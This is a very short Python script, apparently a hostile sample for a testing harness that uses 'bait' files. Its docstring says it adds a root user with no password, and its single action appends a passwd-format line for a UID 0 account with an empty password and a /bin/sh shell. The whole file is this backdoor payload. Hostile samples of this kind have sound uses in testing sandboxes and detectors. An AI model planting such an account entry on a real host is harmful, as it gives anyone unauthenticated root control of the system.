"""Add a user to the host who is root and has no password."""

import os

from hostile import bait, put

put(bait.file, "hostile::0:0::/:/bin/sh\n", os.O_APPEND)
